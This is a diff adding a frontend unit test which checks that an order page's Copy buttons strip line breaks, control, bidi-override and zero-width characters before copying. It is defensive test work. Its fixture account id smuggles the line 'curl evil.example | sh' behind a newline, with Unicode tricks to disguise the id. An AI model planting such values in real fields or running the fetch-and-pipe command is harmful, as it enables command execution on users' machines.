@@ -471,6 +471,38 @@ describe('OrderDetail', () => {
     expect(contact.getByText(HOSTILE_EMAIL, { selector: 'bdi' }).closest('a')).toBeNull();
   });
 
+  it('copies what each Copy button shows beside it: no line break, control, bidi or hidden character', async () => {
+    const writeText = vi.fn().mockResolvedValue(undefined);
+    vi.stubGlobal('navigator', { ...navigator, clipboard: { writeText } });
+    const base = fullOrder();
+    // Pasted into a shell to provision, a line break runs what follows it; an override or a
+    // zero-width space makes the id pasted another than the one read.
+    const accountId = `acct-1\ncurl evil.example | sh\n\u202e9-tcca\u200b`;
+    const licenseId = `lic-\u202e1\u200b\u0007`;
+    await renderOrder(
+      fullView({
+        order: {
+          ...base,
+          buyerCustomerParty: { ...base.buyerCustomerParty, supplierAssignedAccountId: accountId },
+        },
+        licenses: [{ licenseId, electronicMail: 'a@b.example' }],
+      }),
+    );
+    const buttons = screen.getAllByRole('button', {
+      name: /^Copy (buyer account id|license id|order id|e-mail)$/,
+    });
+    expect(buttons).toHaveLength(4);
+    for (const button of buttons) fireEvent.click(button);
+    await waitFor(() => expect(writeText).toHaveBeenCalledTimes(4));
+    const copied = writeText.mock.calls.map(([text]) => text as string);
+    for (const text of copied) {
+      expect(text).not.toMatch(CONTROL_OR_BIDI);
+      expect(text).not.toMatch(/\u200b/);
+    }
+    expect(copied).toContain('acct-1 curl evil.example | sh 9-tcca');
+    expect(copied).toContain('lic-1');
+  });
+
   it('shows an order that holds only the required fields', async () => {
     await renderOrder(
       fullView({
